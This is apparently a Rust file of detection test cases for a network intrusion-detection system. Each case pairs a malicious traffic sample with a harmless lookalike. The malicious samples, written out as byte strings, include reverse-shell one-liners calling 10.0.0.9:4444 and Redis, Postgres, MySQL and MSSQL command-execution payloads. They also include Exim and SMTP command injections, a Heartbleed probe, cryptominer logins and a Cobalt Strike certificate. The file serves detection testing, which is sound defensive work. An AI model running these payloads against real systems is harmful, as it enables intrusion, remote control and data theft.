//! Cases of the rules on everything but HTTP.

use super::{
    Case, case,
    wire::{
        Said, client, client_hello, nfs_call, question, server, server_hello, smb_write,
        with_length,
    },
};

/// A self-signed certificate with the subject of Cobalt Strike's own.
const CERTIFICATE: &[u8] = include_bytes!("cobalt.der");

pub(crate) fn cases() -> Vec<Case> {
    [streams(), stores(), sessions(), mail_and_files()]
        .into_iter()
        .flatten()
        .collect()
}

/// Shells and data stores that have no parser.
fn streams() -> Vec<Case> {
    vec![
        case(7_000_020, 80, client(b"bash -i >& /dev/tcp/10.0.0.9/4444 0>&1\n"), client(b"ls /dev/tcp/\n")),
        case(7_000_021, 80, client(b"cmd=nc 10.0.0.9 4444 -e /bin/bash"), client(b"rsync -e /bin/ssh")),
        case(7_000_022, 80, client(b"s=socket.socket();s.connect((h,1));os.dup2(s.fileno(),0)"), client(b"s = socket.socket()\ns.bind(a)")),
        case(7_000_023, 4444, client(b"python3 -c 'import pty;pty.spawn(\"/bin/bash\")'\n"), client(b"import pty; pty.openpty()")),
        case(7_000_024, 4444, client(b"uid=0(root) gid=0(root) groups=0(root)\n"), client(b"uid=1000(app) gid=1000(app)\n")),
        case(7_000_025, 4444, client(b"bash: cannot set terminal process group (7): Inappropriate ioctl\nbash: no job control in this shell\n"), client(b"cannot set terminal process group\n")),
        case(7_000_050, 6379, client(b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n"), client(b"*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$3\r\ndir\r\n")),
        case(7_000_051, 6379, client(b"*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$10\r\ndbfilename\r\n$4\r\nroot\r\n"), client(b"*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$10\r\ndbfilename\r\n")),
        case(7_000_052, 6379, client(b"CONFIG SET dir /root/.ssh/\r\n"), client(b"CONFIG GET dir\r\n")),
        case(7_000_053, 6379, client(b"*3\r\n$6\r\nMODULE\r\n$4\r\nLOAD\r\n$9\r\n/tmp/x.so\r\n"), client(b"*2\r\n$6\r\nMODULE\r\n$4\r\nLIST\r\n")),
        case(7_000_054, 6379, client(b"*3\r\n$7\r\nSLAVEOF\r\n$8\r\n10.0.0.9\r\n$4\r\n6379\r\n"), client(b"*3\r\n$7\r\nSLAVEOF\r\n$2\r\nNO\r\n$3\r\nONE\r\n")),
        case(7_000_055, 6379, client(b"*3\r\n$4\r\nEVAL\r\n$50\r\nlocal l = package.loadlib(\"/lib/x.so\", \"y\")\r\n$1\r\n0\r\n"), client(b"*3\r\n$4\r\nEVAL\r\n$8\r\nreturn 1\r\n$1\r\n0\r\n")),
        case(7_000_056, 5432, client(b"Q\0\0\0\x30COPY t FROM PROGRAM 'id'\0"), client(b"Q\0\0\0\x30COPY t FROM STDIN WITH CSV\0")),
        case(7_000_057, 3306, client(b"\x30\0\0\0\x03SELECT 'x' INTO OUTFILE '/var/www/x.php'"), client(b"\x30\0\0\0\x03INSERT INTO files VALUES ('/a')")),
        case(7_000_058, 3306, client(b"\x30\0\0\0\x03CREATE FUNCTION sys_exec RETURNS int SONAME 'x.so'"), client(b"\x30\0\0\0\x03CREATE FUNCTION f() RETURNS int RETURN 1")),
        case(7_000_059, 1433, client(b"e\0x\0e\0c\0 \0x\0p\0_\0c\0m\0d\0s\0h\0e\0l\0l\0 \0"), client(b"x\0p\0_\0h\0e\0l\0p\0")),
        case(7_000_061, 11_211, client(b"flush_all\r\n"), client(b"get flush_all_count\r\n")),
        case(7_000_026, 80, client(b"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.9 4444 >/tmp/f"), client(b"mkfifo /run/log; cat /run/log | gzip")),
        case(7_000_062, 6379, client(b"*3\r\n$9\r\nREPLICAOF\r\n$8\r\n10.0.0.9\r\n$4\r\n6379\r\n"), client(b"*3\r\n$9\r\nREPLICAOF\r\n$2\r\nNO\r\n$3\r\nONE\r\n")),
        case(7_000_071, 5005, client(b"JDWP-Handshake"), client(b"GET /JDWP-Handshake")),
        case(7_000_072, 3333, client(b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n"), client(b"{\"method\":\"subscribe\"}\n")),
    ]
}

fn stores() -> Vec<Case> {
    let set = b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$5\r\n/root\r\n";
    let login = b"*2\r\n$4\r\nAUTH\r\n$1\r\nx\r\n";
    let copy = || client("Q\0\0\0\x20COPY t FROM PROGRAM 'id'\0");
    let purge = || client(b"\x01\0\x01\0\0\0\x0c\0\x32\0\x1e\0\0\x04jobs\0\xce");
    let repeat = |count: usize| -> Vec<Said> { (0..count).flat_map(|_| purge()).collect() };
    vec![
        case(
            7_000_063,
            5432,
            [copy(), server("C\0\0\0\x0bCOPY 1\0Z\0\0\0\x05I")].concat(),
            [copy(), server("E\0\0\0\x20SERROR\0Mmust be superuser to COPY\0\0")].concat(),
        ),
        case(
            7_000_069,
            6379,
            [client(set), server("+OK\r\n")].concat(),
            [client(login), server("+OK\r\n"), client(set), server("-ERR CONFIG SET failed\r\n")].concat(),
        ),
        case(7_000_064, 11_211, client(b"\x80\x08\0\0\0\0\0\0"), client(b"\x80\0\0\x08\0\0\0\0")),
        case(
            7_000_065,
            27_017,
            client(b"\x40\0\0\0\x01\0\0\0\0\0\0\0\xdd\x07\0\0\0\0\0\0\0\x2b\0\0\0\x10dropDatabase\0\x01\0\0\0\x02dropDatabase\0"),
            client(b"\x40\0\0\0\x01\0\0\0\0\0\0\0\xdd\x07\0\0\0\0\0\0\0\x2b\0\0\0\x02find\0\x0d\0\0\0dropDatabase\0"),
        ),
        case(
            7_000_066,
            9042,
            client(b"\x04\0\0\0\x07CREATE FUNCTION a.f(x int) RETURNS NULL ON NULL INPUT RETURNS int LANGUAGE javascript AS 'x'"),
            client(b"\x04\0\0\0\x07SELECT javascript FROM language"),
        ),
        case(7_000_067, 5672, repeat(6), repeat(3)),
        case(7_000_068, 2049, client(nfs_call(0)), client(nfs_call(1000))),
    ]
}

fn sessions() -> Vec<Case> {
    let heartbeat = |length: u8| {
        let record = [0x18, 3, 2, 0, 3 + 20, 1, length, 4];
        [
            client(client_hello("a")),
            client([&record[..], &[7; 20]].concat()),
        ]
        .concat()
    };
    let transfer = |kind| client(with_length(&question("cluster.local", kind)));
    let login = |agent: &str| {
        client(format!(
            "{{\"id\":1,\"method\":\"login\",\"params\":{{\"login\":\"4A\",\"pass\":\"x\"{agent}}}}}\n"
        ))
    };
    let plain = CERTIFICATE.to_vec();
    let other: Vec<u8> = plain
        .iter()
        .map(|byte| if *byte == b'j' { b'k' } else { *byte })
        .collect();
    vec![
        case(7_000_070, 443, heartbeat(0x40), heartbeat(0)),
        case(7_000_073, 53, transfer(252), transfer(1)),
        case(
            7_000_078,
            3333,
            login(",\"agent\":\"XMRig/6.21\""),
            login(""),
        ),
        case(
            7_000_079,
            443,
            client(client_hello("gulf.moneroocean.stream")),
            client(client_hello("moneroocean.stream.example.org")),
        ),
        case(
            7_000_121,
            443,
            [client(client_hello("a")), server(server_hello(&plain))].concat(),
            [client(client_hello("a")), server(server_hello(&other))].concat(),
        ),
    ]
}

fn mail_and_files() -> Vec<Case> {
    let ftp = |line: &str| {
        [
            server("220 ready\r\n"),
            client("USER anonymous\r\n"),
            server("331 password\r\n"),
            client(line),
            server("500 what\r\n"),
        ]
        .concat()
    };
    let smtp = |line: &str| {
        [
            server("220 mail ESMTP\r\n"),
            client("EHLO a\r\n"),
            server("250 mail\r\n"),
            client(line),
            server("250 OK\r\n"),
        ]
        .concat()
    };
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0";
    vec![
        case(
            7_000_124,
            22,
            client("SSH-2.0-Nmap-SSH2-Hostkey\r\n"),
            client("SSH-2.0-OpenSSH_9.2p1\r\n"),
        ),
        case(7_000_125, 21, ftp("USER a:)\r\n"), ftp("USER a)\r\n")),
        case(
            7_000_126,
            21,
            ftp("SITE CPFR /etc/passwd\r\n"),
            ftp("SITE CHMOD 644 CPFR\r\n"),
        ),
        case(
            7_000_127,
            25,
            smtp("MAIL FROM:<a@b>\r\nRCPT TO:<${run{\\x2fbin\\x2fid}}@localhost>\r\n"),
            smtp("MAIL FROM:<a@b>\r\nRCPT TO:<run@localhost>\r\n"),
        ),
        case(
            7_000_128,
            25,
            smtp("MAIL FROM:<;sleep 66;>\r\n"),
            smtp("MAIL FROM:<a@b>\r\n"),
        ),
        case(
            7_000_129,
            445,
            smb_write("\\\\host\\IPC$", "svcctl", b""),
            smb_write("\\\\host\\IPC$", "srvsvc", b""),
        ),
        case(
            7_000_112,
            445,
            smb_write("\\\\host\\data", "a.bin", elf),
            smb_write("\\\\host\\data", "a.bin", b"about ELF"),
        ),
    ]
}
